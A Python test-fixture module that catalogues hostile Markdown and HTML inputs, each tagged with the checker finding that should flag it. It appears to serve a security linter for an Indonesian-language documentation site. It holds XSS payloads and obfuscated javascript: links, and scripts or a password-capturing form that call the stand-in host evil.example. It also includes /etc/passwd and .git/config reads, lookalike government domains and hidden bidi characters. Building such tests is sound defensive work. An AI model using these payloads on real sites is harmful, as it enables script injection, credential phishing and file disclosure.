"""What strangers may write below the metadata to run something, to lead readers away or to hide: each with its answer.

`code` is the finding that names it, on its own line. Without one the text is harmless as it stands, because this site does
not have what it plays on, and is shown as the words that it is.
"""

from __future__ import annotations

from dataclasses import dataclass

RUN = "window.dibajak=1"
"""What an attack runs when it succeeds."""
EVIL = "evil.example"
"""The host that an attack calls when it succeeds."""


@dataclass(frozen=True)
class Attack:
    """A text to put on a page, and the code of the finding that names it."""

    name: str
    text: str
    code: str = ""


def _html(code: str, **texts: str) -> list[Attack]:
    return [Attack(name.replace("_", " "), text, code) for name, text in texts.items()]


_ACTIVE = _html(
    "P015",
    script=f"<script>{RUN}</script>",
    script_in_capitals=f"<ScRiPt >{RUN}</sCrIpT >",
    script_with_a_slash=f"<script/x>{RUN}</script>",
    script_from_elsewhere=f"<script src=//{EVIL}/x.js></script>",
    script_in_a_sentence=f"Kata <script>{RUN}</script> kata.",
    script_after_an_empty_comment=f"<!--><script>{RUN}</script>",
    script_after_an_odd_comment=f"<!--a--!><script>{RUN}</script>",
    script_in_CDATA=f"<![CDATA[<script>{RUN}</script>]]>",
    script_after_an_instruction=f"<?php ?><script>{RUN}</script>",
    script_after_a_doctype=f"<!DOCTYPE x><script>{RUN}</script>",
    script_after_a_closed_title=f"</title></style></textarea><script>{RUN}</script>",
    script_in_a_heading=f"## Judul <script>{RUN}</script>",
    script_in_a_list=f"- <script>{RUN}</script>",
    script_in_a_quotation=f"> <script>{RUN}</script>",
    script_in_a_table=f"| a |\n|---|\n| <script>{RUN}</script> |",
    script_in_the_words_of_a_link=f"[<script>{RUN}</script>](isolasi-mandiri)",
    script_in_svg=f"<svg><script>{RUN}</script></svg>",
    frame_with_a_document=f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    frame_of_a_script=f"<iframe src='javascript:parent.{RUN}'></iframe>",
    object=f"<object data='data:text/html,<script>parent.{RUN}</script>'></object>",
    embed=f"<embed src='https://{EVIL}/x.swf'>",
    refresh=f"<meta http-equiv=refresh content='0;url=https://{EVIL}/'>",
    base=f"<base href='https://{EVIL}/'>",
    style_sheet=f"<link rel=stylesheet href='https://{EVIL}/x.css'>",
    style=f"<style>body{{background:url(https://{EVIL}/x)}}</style>",
    form=f"<form action='https://{EVIL}/'><input name=sandi><button>Masuk</button></form>",
    form_button=f"<form id=f></form><button form=f formaction='javascript:{RUN}'>x</button>",
    noscript=f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    template=f"<template><script>{RUN}</script></template>",
)
_HANDLERS = _html(
    "P016",
    picture_handler=f"<img src=x onerror={RUN}>",
    picture_handler_in_a_sentence=f"Kata <img src=x onerror='{RUN}'> kata.",
    svg_handler=f"<svg onload={RUN}>",
    svg_with_a_slash=f"<svg/onload={RUN}>",
    svg_animation=f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    details=f"<details open ontoggle={RUN}>",
    video=f"<video><source onerror={RUN}></video>",
    marquee=f"<marquee onstart={RUN}>",
    body=f"<body onload={RUN}>",
    focus=f"<a id=x tabindex=1 onfocus={RUN} autofocus>x</a>",
    handler_over_two_lines=f"<img src=x\nonerror={RUN}>",
    made_up_element=f"<xss onpointerenter={RUN}>lewati</xss>",
    math_and_style=f"<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror={RUN}>'>",
    box_with_HTML=f'!!! note "<img src=x onerror={RUN}>"\n    x',
    folded_box_with_HTML=f'??? note "<img src=x onerror={RUN}>"\n    x',
    tab_with_HTML=f'=== "<img src=x onerror={RUN}>"\n    x',
    task_with_HTML=f"- [ ] <img src=x onerror={RUN}>",
    Markdown_in_HTML=f'<div markdown="1" onclick="{RUN}">\n\n*x*\n\n</div>',
    footnote_with_HTML=f'[^1]\n\n[^1]: "><img src=x onerror={RUN}>',
    abbreviation_with_HTML=f'HTML\n\n*[HTML]: "><img src=x onerror={RUN}>',
)
_LINKS = [
    Attack(f"link: {target}", f"Baca [naskah ini]({target}).", "L004")
    for target in (
        f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"&#106;avascript:{RUN}", f"&#x6A;avascript:{RUN}",
        f"java&#10;script:{RUN}", f"java&#9;script:{RUN}", f"java&Tab;script:{RUN}",
        f"javascript&colon;{RUN}", f"<javascript:{RUN}>", f"vbscript:{RUN}", f"data:text/html,<script>{RUN}</script>",
        "data:text/html;base64,PHNjcmlwdD53aW5kb3cuZGliYWphaz0xPC9zY3JpcHQ+", f"view-source:https://{EVIL}/",
        f"blob:https://{EVIL}/x", f"//{EVIL}/", f"\\\\\\\\{EVIL}/", "intent:x#Intent;end",
    )
] + [
    Attack(f"address that is none: {target}", f"Baca [naskah ini]({target}).", "L001")
    for target in (f"&#1;javascript:{RUN}", f"/\\\\{EVIL}/", "javascript", "../../../etc/passwd")
] + [
    Attack("link to a file of the machine", "Baca [naskah ini](file:///etc/passwd).", "L013"),
    Attack("link by reference", f"Baca [naskah ini][jauh].\n\n[jauh]: javascript:{RUN}", "L004"),
    Attack("link in brackets", f"<javascript:{RUN}>", "L004"),
    Attack("link in a picture's link", f"[![Ibu duduk tenang](x.jpg)](javascript:{RUN})", "L004"),
    Attack("picture of a script", f"![Ibu duduk tenang](javascript:{RUN})", "L004"),
    Attack("picture of a document", f"![Ibu duduk tenang](data:image/svg+xml,<svg/onload={RUN}>)", "L004"),
    Attack("picture from elsewhere", f"![Ibu duduk tenang](https://{EVIL}/x.png)", "L020"),
    Attack("picture that breaks out of its words", f'!["onerror="{RUN}](https://{EVIL}/x.png)', "L020"),
    Attack("picture from outside the folder", "![Ibu duduk tenang](../../../../etc/passwd)", "L021"),
    Attack("host behind a name", f"Baca [pedoman](https://kemsos.go.id@{EVIL}/).", "L016"),
    Attack("host with foreign letters", "Baca [pedoman](https://kemsоs.go.id/).", "L016"),
    Attack("host like a ministry's", "Baca [pedoman Kemensos](https://kemensos-bantuan.com/).", "L017"),
    Attack("address that hides where it leads", "Baca [pedoman](https://bit.ly/xyz).", "L010"),
]  # fmt: skip
_HIDDEN = [
    Attack("writing that is turned round", "Hubungi \u202e119\u202c sekarang.", "F015"),
    Attack("writing that is isolated", "Hubungi \u2067119\u2069 sekarang.", "F015"),
    Attack("a word with a blank of no width", "Hubungi 1\u200b19 sekarang.", "F016"),
    Attack("a comment", "<!-- rahasia klien: Budi, 08123 -->", "P019"),
]
_HARMLESS = [
    Attack(name, text)
    for name, text in (
        ("a title that ends the title", f"## `</title><script>{RUN}</script>`"),
        ("code with a script", f"Tulis `<script>{RUN}</script>` begitu."),
        ("a fence with a script", f"```html\n<script>{RUN}</script>\n```"),
        ("a fence with a handler", f"``` {{ .mermaid onclick={RUN} }}\ngraph TD\n```"),
        (
            "a diagram",
            f"```mermaid\n%%{{init:{{'themeCSS':'a{{background:url(//{EVIL}/)}}'}}}}%%\ngraph TD; A-->B\n```",
        ),
        ("entities of a script", f"&lt;script&gt;{RUN}&lt;/script&gt;"),
        ("an escaped script", f"\\<script>{RUN}\\</script>"),
        ("attributes behind a link", f"Baca [istilah isolasi](isolasi-mandiri){{onclick={RUN} style=position:fixed}}."),
        ("attributes behind a paragraph", f"Kata.\n{{: onclick={RUN} #__config .md-overlay }}"),
        ("a heading that clobbers", "## __config"),
        ("a heading that clobbers with attributes", "## Judul {#__config onclick=x}"),
        ("a heading named body", "## body"),
        ("a heading named createElement", "## createElement"),
        ("a heading named as a part of the page", "## Isi\n\n## Isi"),
        ("a heading named location", "## Location\n\n[x](#location)"),
        ("headings that count", "## a\n\n### a_1\n\n## a\n\n## !?\n\n## bagian"),
        ("a heading without letters", "## ...\n\n## \u4f60\u597d\n\n## \u00e9"),
        ("links to nowhere", "[x](?q=1) [x](#) [x](.) [x](/) [x](..) [x](#_cari) [x](index) [x](404) [x](rusak#a)"),
        (
            "links of other kinds",
            "[x](tel:) [x](mailto:) [x](ftp://a.id) [x](sms:119) [x](geo:1,2) [x](whatsapp://send)",
        ),
        ("characters that are none", "&#0; &#xD800; &#x110000; \ufdd0 \U0010ffff \u2028 \x85"),
        ("a table of contents", "[TOC]"),
        ("a file of the repository", '--8<-- ".git/config"'),
        ("a file of the machine", '--8<-- "/etc/passwd"'),
        ("a page of the web", f'--8<-- "https://{EVIL}/x"'),
        ("a template", "{{ config }} {% include 'x' %} {{ ''.__class__.__mro__ }}"),
        ("a block of HTML", f"/// html | script[src='//{EVIL}/x.js']\n///"),
        ("a footnote that breaks out", '[^">]\n\n[^">]: x'),
        ("keys", '++ctrl+"onclick=x"++'),
        ("mathematics", "$$\\href{javascript:" + RUN + "}{x}$$"),
        ("emoji", ":smile: :material-alert:{ onclick=x }"),
        ("critic", "{++kata++}{>>catatan<<}{--hapus--}"),
        ("a link with a backslash", f"[x](javascript\\x3A{RUN})"),
        ("a broken link", f"[x](<javascript:{RUN}"),
        ("an open tag", "<img src=x onerror"),
        ("an open comment", "<!--"),
    )
]

ATTACKS = (*_ACTIVE, *_HANDLERS, *_LINKS, *_HIDDEN, *_HARMLESS)
